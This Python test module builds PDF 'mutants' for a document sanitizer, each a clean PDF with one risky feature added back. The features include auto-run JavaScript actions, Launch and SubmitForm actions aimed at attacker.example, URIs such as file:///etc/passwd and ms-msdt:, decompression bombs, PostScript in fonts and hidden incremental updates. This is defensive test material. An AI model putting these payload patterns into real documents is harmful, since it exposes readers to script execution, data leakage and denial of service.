"""Mutants of PDF, keyed by vector as in mutants.py: a good copy into which one thing was put back.

Addresses are of attacker.example, scripts say hello, and no program is named that exists.
"""

import zlib

from sanitizers.model import Check
from tests.sanitizers.verify.forge import JFIF, icc, jpeg, segment
from tests.sanitizers.verify.forge_pdf import (
    TEXT,
    cff,
    framed,
    image,
    pdf,
    sfnt,
    stream,
    truetype,
    type1,
    with_image,
    with_note,
    with_program,
)
from tests.sanitizers.verify.mutant import Mutant

PDF = "application/pdf"
SCRIPT = "<</JS<6170702e616c6572742831293b>/S/JavaScript>>"
SHARE = b"\\\\attacker.example\\share\\a.pdf".hex()
STAND_IN = b"Author 1".hex()
TEXT_FILE = b"a.txt".hex()
WEB = b"https://attacker.example/a".hex()
FILE = f"<</F<{SHARE}>/Type/Filespec>>"

ACTIONS = {
    "PDF-10": SCRIPT,
    "PDF-11": "<</JS<61>/OP 0/S/Rendition>>",
    "PDF-12": f"<</F<{SHARE}>/S/Launch>>",
    "PDF-13": f"<</D[0/Fit]/F<{SHARE}>/S/GoToR>>",
    "PDF-14": f"<</D[0/Fit]/F<{SHARE}>/S/GoToE/T<</R/C>>>>",
    "PDF-19": f"<</F<</F<{WEB}>/FS/URL>>/S/SubmitForm>>",
    "PDF-20": f"<</F<{SHARE}>/S/ImportData>>",
    "PDF-21": f"<</D 0/F<{SHARE}>/S/Thread>>",
    "PDF-23": "<</Operation/Play/S/Movie>>",
}
STATE_CHANGES = {
    "hides a field": "<</H true/S/Hide/T<61>>>",
    "resets a form": "<</S/ResetForm>>",
    "shows a layer": "<</S/SetOCGState/State[/ON]>>",
    "prints": "<</N/Print/S/Named>>",
    "turns a page with effects": "<</S/Trans/Trans<</S/Box>>>>",
    "moves a camera": "<</S/GoTo3DView/V/F>>",
    "goes to a document part": "<</Dp 3 0 R/S/GoToDp>>",
}
URIS = (
    "file:///etc/passwd",
    "\\\\attacker.example\\share",
    "//attacker.example/a",
    "javascript:app.alert(1)",
    "JaVaScRiPt:app.alert(1)",
    "java\nscript:app.alert(1)",
    "vnd.sun.star.expand:$a",
    "ms-msdt:/id a",
    "search-ms:query=a",
    "data:text/html,a",
    "ftp://attacker.example/a",
    "https:attacker.example",
    "https://attacker.example/a b",
    "relative.pdf",
)


def _pdf(vector: str, what: str, data: bytes, check: Check = Check.PDF) -> Mutant:
    return Mutant(vector, what, PDF, data, check)


def _catalog(vector: str, what: str, entry: str, *more: bytes) -> Mutant:
    return _pdf(vector, what, pdf(*more, catalog=entry))


def _page(vector: str, what: str, entry: str, *more: bytes) -> Mutant:
    return _pdf(vector, what, pdf(*more, page=entry))


def _note(vector: str, what: str, entries: str, *more: bytes) -> Mutant:
    return _pdf(vector, what, with_note(entries, *more))


def _picture(vector: str, what: str, entries: str, *more: bytes, check: Check = Check.PDF) -> Mutant:
    return _pdf(vector, what, with_image(image(entries), *more), check)


def _form(vector: str, what: str, entries: str, *more: bytes, content: bytes = b"q Q") -> Mutant:
    body = stream(f"/BBox[0 0 9 9]/Subtype/Form/Type/XObject{entries}", content)
    return _pdf(vector, what, with_image(body, *more))


def _content(vector: str, what: str, content: bytes, check: Check = Check.PDF) -> Mutant:
    return _pdf(vector, what, pdf(content=stream("", content)), check)


def _uri(address: str) -> str:
    return f"/A<</S/URI/URI<{address.encode().hex()}>>>"


def _outline(entries: str) -> bytes:
    item = f"<</Parent 6 0 R/Title<61>{entries}>>".encode()
    return pdf(b"<</Count 1/First 7 0 R/Last 7 0 R/Type/Outlines>>", item, catalog="/Outlines 6 0 R")


def _field(entries: str) -> bytes:
    return pdf(f"<</FT/Tx/T<61>{entries}>>".encode(), catalog="/AcroForm<</Fields[6 0 R]>>")


def _compact(program: bytes) -> bytes:
    return with_program("FontFile3", program, "/Subtype/Type1C")


def _made_of(part: int) -> bytes:
    """Outlines of two glyphs, the second made of another."""
    return bytes(12) + b"\xff\xff" + bytes(8) + b"\0\0" + part.to_bytes(2, "big") + b"\0\0"


def _profile(what: str, profile: bytes) -> Mutant:
    picture = stream("/BitsPerComponent 8/ColorSpace[/ICCBased 7 0 R]/Height 1/Subtype/Image/Width 1", b"\0\0\0")
    return _pdf("PDF-80", what, with_image(picture, stream("/N 3", profile)), Check.IMAGE)


def _revised() -> bytes:
    """An update behind the end that gives the catalog a script, as 7.5.6 describes it."""
    first = pdf()
    catalog = f"1 0 obj\n<</OpenAction{SCRIPT}/Pages 2 0 R/Type/Catalog>>\nendobj\n".encode()
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<</Prev %d/Root 1 0 R/Size 6>>\n" % (
        len(first),
        first.rfind(b"xref\n0"),
    )
    return first + catalog + table + b"startxref\n%d\n%%%%EOF\n" % (len(first) + len(catalog))


_ACTIONS = (
    _catalog("PDF-01", "a script on opening", f"/OpenAction{SCRIPT}"),
    _catalog("PDF-01", "an address on opening", f"/OpenAction<</S/URI/URI<{WEB}>>>"),
    *(_catalog("PDF-02", f"{key} of the document", f"/AA<</{key}{SCRIPT}>>") for key in ("WC", "WS", "DS", "WP", "DP")),
    *(_page("PDF-03", f"{key} of a page", f"/AA<</{key}{SCRIPT}>>") for key in ("O", "C")),
    _note("PDF-04", "an action without a kind", "/A<</D[3 0 R/Fit]>>"),
    *(
        _note("PDF-05", f"{key} of an annotation", f"/AA<</{key}{SCRIPT}>>")
        for key in ("E", "X", "D", "U", "Fo", "Bl", "PO", "PC", "PV", "PI")
    ),
    *(_pdf("PDF-06", f"{key} of a field", _field(f"/AA<</{key}{SCRIPT}>>")) for key in ("K", "F", "V", "C")),
    _pdf("PDF-06", "an action of a field without a place", _field(f"/A{SCRIPT}")),
    _catalog("PDF-06", "an order of calculation", "/AcroForm<</CO[]/Fields[]>>"),
    _pdf("PDF-07", "a script in a bookmark", _outline(f"/A{SCRIPT}")),
    _pdf("PDF-08", "a second action behind the first", _outline(f"/A<</D[3 0 R/Fit]/Next{SCRIPT}/S/GoTo>>")),
    _catalog("PDF-09", "a script of the document", f"/Names<</JavaScript<</Names[<61>{SCRIPT}]>>>>"),
    *(_note(vector, "by a click", f"/A{action}") for vector, action in ACTIONS.items()),
    *(_pdf(vector, "in a bookmark", _outline(f"/A{action}")) for vector, action in ACTIONS.items()),
    *(_note("PDF-22", what, f"/A{action}") for what, action in STATE_CHANGES.items()),
    _note("PDF-15", "a web address with a flag", f"/A<</IsMap true/S/URI/URI<{WEB}>>>"),
    *(_note("PDF-16", repr(address), _uri(address)) for address in URIS),
    _catalog("PDF-17", "an address that others start from", f"/URI<</Base<{WEB}>>>"),
    _note("PDF-18", "an action of the capture", f"/PA<</S/URI/URI<{WEB}>>>"),
)

_CARRIERS = (
    *(
        _note(vector, what, entry)
        for vector, what, entry in (
            ("PDF-24", "rich content of a link", "/RichMediaContent 3 0 R"),
            ("PDF-25", "a body of a link", "/3DD 3 0 R"),
            ("PDF-26", "a film of a link", "/Movie<<>>"),
        )
    ),
    *(
        _pdf(vector, kind, pdf(f"<</Rect[0 0 9 9]/Subtype/{kind}/Type/Annot>>".encode(), page="/Annots[6 0 R]"))
        for vector, kind in (
            ("PDF-24", "an annotation RichMedia"),
            ("PDF-25", "an annotation 3D"),
            ("PDF-26", "an annotation Movie"),
            ("PDF-26", "an annotation Sound"),
            ("PDF-33", "an annotation FileAttachment"),
        )
        for kind in (kind.rpartition(" ")[2],)
    ),
    *(
        _catalog(vector, f"names of {key}", f"/Names<</{key}<</Names[]>>>>")
        for vector, key in (
            ("PDF-27", "Renditions"),
            ("PDF-28", "AlternatePresentations"),
            ("PDF-29", "Templates"),
            ("PDF-29", "Pages"),
            ("PDF-30", "IDS"),
            ("PDF-30", "URLS"),
            ("PDF-31", "EmbeddedFiles"),
        )
    ),
    _catalog("PDF-30", "what a spider found", "/SpiderInfo<<>>"),
    _catalog("PDF-32", "a file of the document", f"/AF[{FILE}]"),
    _page("PDF-32", "a file of a page", f"/AF[{FILE}]"),
    _form("PDF-32", "a file of a form", f"/AF[{FILE}]"),
    _note("PDF-33", "a file in a link", f"/FS{FILE}"),
    _note("PDF-34", "an embedded file in an action", "/A<</D[0/Fit]/F<</EF<</F 7 0 R>>>>/S/GoTo>>", stream("", b"a")),
    _catalog("PDF-35", "a portfolio", "/Collection<</View/D>>"),
    _pdf("PDF-36", "content from elsewhere", pdf(content=stream(f"/F<{SHARE}>", TEXT))),
    _pdf("PDF-36", "a filter for it", pdf(content=stream("/FFilter/FlateDecode", TEXT))),
    _form("PDF-37", "a page of another file", f"/Ref<</F<{SHARE}>/Page 0>>"),
    _form("PDF-38", "a form for the printer", f"/OPI<</2.0<</F<{SHARE}>/Type/OPI>>>>"),
    _picture("PDF-38", "a picture for the printer", f"/OPI<</1.3<</F<{SHARE}>/Type/OPI>>>>"),
    _picture("PDF-39", "another picture on paper", "/Alternates[<</DefaultForPrinting true/Image 7 0 R>>]", image()),
    _catalog("PDF-40", "XFA", "/AcroForm<</Fields[]/XFA 6 0 R>>", stream("", b"<xdp/>")),
    _catalog("PDF-41", "XFA in parts", "/AcroForm<</Fields[]/XFA[<61>6 0 R]>>", stream("", b"<!DOCTYPE a>")),
    _catalog("PDF-42", "a shell of XFA", "/NeedsRendering true"),
    _pdf("PDF-43", "a stream for a value", _field("/RV<61>")),
    *(_note("PDF-44", f"flags {flags}", f"/F {flags}") for flags in (2, 32, 256, 34)),
    _note("PDF-45", "rich text", "/RC<61>"),
    _note("PDF-45", "who wrote it", "/Subj<61>"),
    _page("PDF-45", "a name on a note", "/Annots[<</Rect[0 0 9 9]/Subtype/Text/T<61>>>]"),
    _page("PDF-45", "a stand-in that no policy asked for", f"/Annots[<</Rect[0 0 9 9]/Subtype/Text/T<{STAND_IN}>>>]"),
    _catalog(
        "PDF-31",
        "a file as a policy may keep it",
        f"/Names<</EmbeddedFiles<</Names[<{TEXT_FILE}>6 0 R]>>>>",
        f"<</EF<</F 7 0 R>>/F<{TEXT_FILE}>/Type/Filespec/UF<{TEXT_FILE}>>>".encode(),
        stream("/Type/EmbeddedFile", b"hello"),
    ),
    *(
        _note("PDF-46", f"appearance {key}", f"/AP<</{key} 7 0 R/N 7 0 R>>", stream("/BBox[0 0 9 9]/Subtype/Form", b""))
        for key in ("R", "D")
    ),
    _pdf("PDF-47", "a signature", pdf(b"<</FT/Sig/T<61>>>", catalog="/AcroForm<</Fields[6 0 R]>>")),
    *(_catalog("PDF-47", key, f"/{key}<<>>") for key in ("Perms", "DSS", "Legal")),
    _catalog("PDF-47", "flags of signatures", "/AcroForm<</Fields[]/SigFlags 3>>"),
    _catalog("PDF-48", "requirements", f"/Requirements[<</RH{SCRIPT}/S/EnableJavaScripts>>]"),
    _catalog("PDF-49", "extensions", "/Extensions<</A<</BaseVersion/1.7>>>>"),
    _catalog("PDF-49", "an unknown entry", "/Hello true"),
    _catalog("PDF-50", "private data of the document", "/PieceInfo<<>>"),
    _page("PDF-50", "private data of a page", "/PieceInfo<<>>"),
    _form("PDF-50", "private data of a form", "/PieceInfo<<>>"),
    *(
        mutant(  # type: ignore[operator]
            "PDF-51", f"metadata of a {what}", f"/Metadata {number} 0 R", stream("/Subtype/XML/Type/Metadata", b"<a/>")
        )
        for mutant, what, number in ((_catalog, "document", 6), (_page, "page", 6), (_picture, "picture", 7))
    ),
    _pdf("PDF-52", "information", pdf(b"<</Author<61>>>", trailer="/Info 6 0 R")),
)

_FRAME = (
    _pdf("PDF-53", "an identifier of its own", pdf().replace(b"/ID[<", b"/ID[<00").replace(b"><", b"><00")),
    _pdf("PDF-53", "another identifier", pdf(identifier="00" * 16)),
    _pdf("PDF-54", "an unknown entry of the trailer", pdf(trailer="/Hello<61>")),
    _pdf("PDF-55", "an earlier revision", pdf() + pdf()),
    _pdf("PDF-55", "a later revision", _revised()),
    _pdf("PDF-55", "where an earlier revision starts", pdf(trailer="/Prev 20")),
    _pdf("PDF-56", "an object that nothing leads to", pdf(b"<</JS<61>/S/JavaScript>>")),
    _pdf("PDF-57", "bytes before the header", pdf(before=b"hello\n"), Check.MAGIC),
    _pdf("PDF-57", "bytes behind the end", pdf(behind=b"hello\n")),
    _pdf("PDF-57", "a comment between two objects", pdf(gap=b"% hello\n")),
    _pdf("PDF-57", "a comment in an object", pdf(b"[%a\n6 0 R]", catalog="/PageLabels 6 0 R")),
    _pdf("PDF-58", "an object stream", pdf(stream("/First 4/N 1/Type/ObjStm", b"9 0 <</JS<61>/S/JavaScript>>"))),
    _catalog("PDF-59", "an escaped name", "/#4fpenAction[3 0 R/Fit]"),
    _catalog("PDF-59", "a literal string", "/Lang(ja)"),
    _catalog("PDF-59", "a hexadecimal string with a gap", "/Lang<6a 61>"),
    _catalog("PDF-59", "a hexadecimal string in capitals", "/Lang<6A61>"),
    *(
        _pdf("PDF-60", name, pdf(content=stream("", TEXT, name)))
        for name in ("ASCIIHexDecode", "ASCII85Decode", "LZWDecode", "RunLengthDecode", "Crypt", "Hello")
    ),
    _pdf("PDF-60", "a chain", pdf(content=stream("/Filter[/FlateDecode/FlateDecode]", zlib.compress(TEXT), None))),
    _pdf("PDF-60", "no filter", pdf(content=stream("", TEXT, None))),
    _pdf("PDF-60", "a predictor in a text", pdf(content=stream("/DecodeParms<</Predictor 12>>", TEXT))),
    _catalog("PDF-61", "a key twice", "/PageMode/UseNone/PageMode/UseOutlines"),
    _pdf("PDF-62", "another length", pdf().replace(b"/Length ", b"/Length 1")),
    _pdf("PDF-62", "a length twice", pdf(content=stream("/Length 3", TEXT))),
    _pdf(
        "PDF-62",
        "bytes behind the stream's end",
        pdf(content=stream("/Filter/FlateDecode", zlib.compress(TEXT) + b"hello", None)),
    ),
    _pdf("PDF-63", "a number twice", pdf().replace(b"5 0 obj", b"4 0 obj")),
    _pdf(
        "PDF-63",
        "an object in a stream",
        pdf(
            content=stream(
                "/Filter/FlateDecode", zlib.compress(TEXT + b" " * 9, 0).replace(b"        ", b" 9 0 obj"), None
            )
        ),
    ),
    _pdf("PDF-63", "a free object", pdf().replace(b" 00000 n \ntrailer", b" 00000 f \ntrailer")),
    _pdf("PDF-63", "another generation", pdf().replace(b" 00000 n \ntrailer", b" 00001 n \ntrailer")),
    _pdf("PDF-64", "more pages than there are", pdf(pages="/Count 2/Kids[3 0 R]/Type/Pages")),
    _pdf("PDF-64", "a page twice", pdf(pages="/Count 2/Kids[3 0 R 3 0 R]/Type/Pages")),
    _pdf(
        "PDF-64",
        "a page outside the tree",
        with_note("/Dest[7 0 R/Fit]", b"<</MediaBox[0 0 9 9]/Parent 2 0 R/Type/Page>>"),
    ),
    _pdf("PDF-65", "a second table", pdf(trailer="/XRefStm 20")),
    _pdf("PDF-65", "linear", pdf(b"<</Linearized 1>>")),
    _pdf("PDF-66", "encrypted", pdf(trailer="/Encrypt<</Filter/Standard/V 1>>")),
    _pdf("PDF-67", "encrypted for others", pdf(trailer="/Encrypt<</Filter/Adobe.PubSec/V 4>>")),
    _pdf("PDF-96", "a mail behind it", pdf(behind=b"MIME-Version: 1.0\nContent-Type: multipart/related\n")),
    _pdf("PDF-97", "form data", pdf().replace(b"%PDF-1.7", b"%FDF-1.2"), Check.MAGIC),
    _pdf("PDF-97", "form data in XML", b'<?xml version="1.0"?><xfdf/>', Check.MAGIC),
    _pdf("PDF-98", "another version", pdf().replace(b"%PDF-1.7", b"%PDF-9.9"), Check.MAGIC),
    _pdf("PDF-98", "a header of PostScript", pdf().replace(b"%PDF-1.7", b"%!PS-Adobe-3.0 PDF-1.7"), Check.MAGIC),
    _pdf("PDF-99", "a table as a stream", pdf(stream("/Size 7/Type/XRef/W[1 2 1]", bytes(4)))),
)

_SCREENS = (
    *(
        _catalog("PDF-68", what, f"/OCProperties<</D<<{entries}>>/OCGs[6 0 R]>>", b"<</Name<61>/Type/OCG>>")
        for what, entries in (
            ("a layer that is off", "/OFF[6 0 R]"),
            ("all layers off", "/BaseState/OFF"),
            ("a layer for the printer", "/AS[<</Category[/Print]/Event/Print/OCGs[6 0 R]>>]"),
        )
    ),
    _form("PDF-72", "a form that draws itself", "/Resources<</XObject<</X 6 0 R>>>>", content=b"/X Do"),
    _pdf(
        "PDF-72",
        "bookmarks in a circle",
        pdf(
            b"<</First 7 0 R/Last 7 0 R>>",
            b"<</Next 7 0 R/Parent 6 0 R/Prev 7 0 R/Title<61>>>",
            catalog="/Outlines 6 0 R",
        ),
    ),
    _pdf("PDF-72", "a tree of numbers in itself", pdf(b"<</Kids[6 0 R]>>", catalog="/PageLabels 6 0 R")),
    _pdf(
        "PDF-72",
        "tags a thousand deep",
        pdf(
            b"<</K 7 0 R/Type/StructTreeRoot>>",
            *(b"<</K %d 0 R/S/P>>" % number for number in range(8, 1008)),
            b"<</S/P>>",
            catalog="/StructTreeRoot 6 0 R",
        ),
        Check.LIMITS,
    ),
    _pdf("PDF-72", "thirty-three arrays in each other", pdf(catalog="/A" + "[" * 33 + "]" * 33)),
    _pdf("PDF-73", "a bomb", pdf(content=stream("", b" " * (80 << 20))), Check.LIMITS),
    _page("PDF-74", "a page of ten thousand times its size", "/UserUnit 10000"),
    _page("PDF-74", "a page as large as a town", "/CropBox[0 0 9999999 9]"),
    _pdf(
        "PDF-74",
        "too many pages",
        framed(
            [
                b"<</Pages 2 0 R/Type/Catalog>>",
                b"<</Count 10001/Kids[%s]/Type/Pages>>" % b" ".join(b"%d 0 R" % number for number in range(3, 10004)),
                *([b"<</MediaBox[0 0 9 9]/Parent 2 0 R/Type/Page>>"] * 10001),
            ]
        ),
        Check.LIMITS,
    ),
    *(
        _pdf(vector, name, with_image(image("", b"\0\0\0\0", name)))
        for vector, name in (("PDF-75", "JBIG2Decode"), ("PDF-76", "JPXDecode"), ("PDF-77", "CCITTFaxDecode"))
    ),
    *(
        _pdf("PDF-78", what, with_image(image("", data, "DCTDecode", size=16)), Check.IMAGE)
        for what, data in (
            ("a place", jpeg(applications=segment(0xE1, b"Exif\0\0II*\0\x08\0\0\0\0\0\0\0\0\0"))),
            ("a comment", jpeg(applications=segment(0xE0, JFIF) + segment(0xFE, b"hello"))),
            ("bytes behind it", jpeg() + b"hello"),
        )
    ),
    _pdf("PDF-78", "another size", with_image(image("", jpeg(), "DCTDecode", size=15)), Check.IMAGE),
    _pdf("PDF-78", "samples behind the last row", with_image(image("", bytes(5))), Check.IMAGE),
    _content("PDF-79", "samples behind an inline image", b"BI /W 2/H 2/BPC 8/CS/G ID 12345 EI"),
    _content("PDF-79", "a filter in an inline image", b"BI /W 2/H 2/BPC 8/CS/G/F/LZW ID 1234 EI"),
    _content("PDF-79", "digits behind an inline image", b"BI /W 1/H 1/BPC 8/CS/G/F/AHx ID 0011> EI"),
    _content("PDF-79", "an inline image without an end", b"BI /W 2/H 2/BPC 8/CS/G ID 123"),
    _profile("a profile that nobody knows", b"hello"),
    _profile("a profile with a private tag", icc().replace(b"wtpt", b"Helo")),
    _catalog("PDF-80", "a profile for the press", "/OutputIntents[<</S/GTS_PDFX>>]"),
    _catalog("PDF-81", "a profile elsewhere", f"/OutputIntents[<</DestOutputProfileRef<</URLs[<{WEB}>]>>>>]"),
    _catalog("PDF-93", "a place on the earth", "/LGIDict<</Type/LGIDict>>"),
    _page("PDF-93", "a map in a page", "/VP[<</Measure<</GPTS[35 139]/Subtype/GEO>>>>]"),
    _page("PDF-92", "a small picture of a page", "/Thumb 6 0 R", image()),
    _catalog("PDF-94", "the whole screen", "/PageMode/FullScreen"),
    _catalog("PDF-94", "another preference", "/ViewerPreferences<</Hello true>>"),
    _page("PDF-94", "an effect", "/Trans<</S/Box>>"),
    _page("PDF-94", "a slide", "/Dur 1"),
    _catalog("PDF-95", "parts of a document", "/DPartRoot<</DPM<<>>>>"),
    _catalog("PDF-91", "classes of tags", "/StructTreeRoot<</ClassMap<<>>/Type/StructTreeRoot>>"),
    _catalog("PDF-91", "an owner of its own", "/StructTreeRoot<</K<</A<</O/Hello>>/S/P>>/Type/StructTreeRoot>>"),
)

_CALCULATOR = "/Domain[0 1]/FunctionType 4/Range[0 1]"
_PAINT = (
    _pdf("PDF-82", "no Type 1 program", with_program("FontFile", b"hello", "/Length1 5/Length2 0/Length3 0")),
    _pdf(
        "PDF-82", "lengths of another program", with_program("FontFile", b"%!a eexec", "/Length1 9/Length2 9/Length3 0")
    ),
    _pdf("PDF-83", "bytes behind the tables", with_program("FontFile2", sfnt((b"glyf", b"a")) + b"hello")),
    _pdf("PDF-83", "a table beyond the file", with_program("FontFile2", sfnt((b"glyf", b"abcdefgh"))[:-4])),
    _pdf("PDF-84", "no compact program", with_program("FontFile3", b"hello", "/Subtype/Type1C")),
    _pdf("PDF-82", "PostScript in a font", type1(clear=b"(a) run\n")),
    _pdf("PDF-82", "PostScript behind the cipher", type1(private=b"(a) run\n")),
    _pdf("PDF-82", "procedures for outlines", type1(private=b"/OtherSubrs [{systemdict} {} {} {}] ND\n")),
    _pdf("PDF-82", "a charstring of another length", type1(private=b"/a 9 RD abc ND\n")),
    _pdf("PDF-82", "something in place of the zeros", type1(zeros=b"hello\n")),
    _pdf("PDF-85", "a word in a font's matrix", type1(clear=b"/FontMatrix [0.001 0 0 (alert) 0 0] readonly def\n")),
    _pdf("PDF-83", "a glyph made of itself", with_program("FontFile2", truetype(glyf=_made_of(1)))),
    _pdf("PDF-83", "a glyph made of one that there is not", with_program("FontFile2", truetype(glyf=_made_of(9)))),
    _pdf("PDF-83", "metrics of more glyphs", with_program("FontFile2", truetype(hmtx=bytes(8)))),
    _pdf("PDF-83", "places beyond the outlines", with_program("FontFile2", truetype(loca=b"\0\0\0\6\0\x99"))),
    _pdf(
        "PDF-83",
        "characters beyond their table",
        with_program("FontFile2", truetype(cmap=b"\0\0\0\1\0\3\0\1\0\0\0\x99")),
    ),
    _pdf("PDF-84", "bytes behind the glyphs", _compact(cff(behind=b"hello"))),
    _pdf("PDF-84", "a gap before the glyphs", _compact(cff(gap=b"hello"))),
    _pdf("PDF-84", "an unknown operator", _compact(cff(top=b"\x8b\x0c\x1f\x8b\x16"))),
    _pdf("FNT-02", "an operator of several masters", _compact(cff(top=b"\x8b\x0c\x18"))),
    _pdf("PDF-84", "PostScript in a compact font", _compact(cff(top=b"\x8b\x0c\x15\x8b\x0c\x17"))),
    _pdf("PDF-84", "glyphs out of order", _compact(cff(glyphs=b"\0\2\1\1\3\2\x0e\x0e"))),
    _pdf("PDF-84", "another kind", with_program("FontFile3", b"\1\0\4\1", "/Subtype/Hello")),
    _pdf("FNT-01", "SING", with_program("FontFile2", sfnt((b"SING", b"a")))),
    _pdf("FNT-01", "a private table", with_program("FontFile2", sfnt((b"Helo", b"a")))),
    _pdf("FNT-02", "a compact program of version 2", with_program("FontFile3", b"\2\0\5\0\0", "/Subtype/Type1C")),
    *(
        _pdf("FNT-03", name, with_program("FontFile2", sfnt((name.encode(), b"a"))))
        for name in ("gvar", "HVAR", "fvar")
    ),
    *(
        _pdf("FNT-04", name, with_program("FontFile2", sfnt((b"glyf", b"a"), version=name.encode())))
        for name in ("wOFF", "wOF2")
    ),
    *(
        _pdf("FNT-05", name, with_program("FontFile2", sfnt((name.encode(), b"a"))))
        for name in ("SVG ", "COLR", "sbix")
    ),
    _pdf("FNT-06", "a program of Windows", with_program("FontFile2", b"MZ" + bytes(60))),
    _pdf(
        "PDF-85",
        "a script in a matrix",
        pdf(
            b"<</CharProcs<</a 7 0 R>>/Encoding<</Differences[65/a]>>/FontBBox[0 0 1 1]"
            b"/FontMatrix[1 0 0 1 0<616c657274>]/Subtype/Type3/Type/Font>>",
            stream("", b"1 0 d0"),
            fonts="/F2 6 0 R",
        ),
    ),
    _pdf("PDF-85", "a word among the widths", pdf(font="/FirstChar 0/LastChar 0/Widths[<61>]")),
    _pdf("PDF-85", "a dictionary among the differences", pdf(font="/Encoding<</Differences[65<<>>]>>")),
    _pdf(
        "PDF-86",
        "a letter with an unknown operator",
        pdf(
            b"<</CharProcs<</a 7 0 R>>/Encoding<</Differences[65/a]>>/FontBBox[0 0 1 1]"
            b"/FontMatrix[1 0 0 1 0 0]/Subtype/Type3/Type/Font>>",
            stream("", b"1 0 d0 hello"),
            fonts="/F2 6 0 R",
        ),
    ),
    _pdf("PDF-87", "PostScript in a map", pdf(stream("", b"begincmap (a) run endcmap"), font="/ToUnicode 6 0 R")),
    _pdf("PDF-87", "a map in a map", pdf(stream("/UseCMap 6 0 R", b"begincmap endcmap"), font="/ToUnicode 6 0 R")),
    _picture("PDF-88", "PostScript beside a picture", "/PS 7 0 R", stream("", b"showpage")),
    _pdf("PDF-88", "PostScript", with_image(stream("/Subtype/PS/Type/XObject", b"showpage"))),
    _pdf(
        "PDF-88",
        "a calculator that reads a file",
        pdf(stream(_CALCULATOR, b"{ (a) run }"), resources="/ExtGState<</G<</TR 6 0 R>>>>"),
    ),
    _pdf(
        "PDF-89",
        "samples without end",
        pdf(
            stream("/BitsPerSample 8/Domain[0 1 0 1]/FunctionType 0/Range[0 1]/Size[65535 65535]", b"a"),
            resources="/ExtGState<</G<</TR 6 0 R>>>>",
        ),
        Check.LIMITS,
    ),
    _content("PDF-100", "an unknown operator", b"q hello Q"),
    _content("PDF-100", "a place for unknown operators", b"BX (hello) hello EX"),
    _content("PDF-100", "operands too many", b"(hello) 1 0 0 rg"),
    _content("PDF-100", "operands that nothing takes", b"q Q (hello)"),
    _content("PDF-100", "a comment", b"q % hello\nQ"),
)

PDFS: tuple[Mutant, ...] = _ACTIONS + _CARRIERS + _FRAME + _SCREENS + _PAINT

BEYOND_PDF = {
    "PDF-69": "text that does not show is what a scan's reader put there; a policy decides before the copy is written",
    "PDF-70": "what lies outside the page may be half of what lies inside",
    "PDF-71": "what stands under a rectangle is not decided without drawing",
    "PDF-90": "a text for those who listen is a text",
    "FNT-07": "the shape of a letter is not read",
}
